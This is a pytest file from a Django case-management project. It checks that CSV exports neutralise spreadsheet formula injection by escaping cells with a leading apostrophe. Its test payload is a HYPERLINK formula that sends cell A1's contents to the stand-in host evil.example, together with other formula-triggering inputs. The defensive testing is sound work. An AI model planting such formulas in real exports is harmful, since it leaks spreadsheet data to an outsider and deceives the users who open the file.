"""Security finding (Low): CSV exports carried formula injection."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from putright.cases.interchange import read_history, write_history
from putright.cases.calendar import landlord_calendar
from putright.cases.tests.factories import log_complaint
from putright.protect import csvsafe

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Click for your refund")'


@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    out = io.StringIO()
    csvsafe.writer(out).writerow([value, 12, "plain"])
    cell = next(csv.reader(io.StringIO(out.getvalue())))[0]
    assert cell == "'" + value and csvsafe.unescape(cell) == value


def test_the_case_export_is_formula_safe_and_reads_back_the_same(resident, today):
    log_complaint(resident=resident, description=ATTACK, today=today)
    out = io.StringIO()
    write_history(out)
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert "'" + ATTACK in cells and ATTACK not in cells
    out.seek(0)
    result = read_history(io.BytesIO(out.getvalue().encode()), cal=landlord_calendar(), today=timezone.localdate())
    assert not result.problems, result.problems
    assert result.rows[0].description == ATTACK
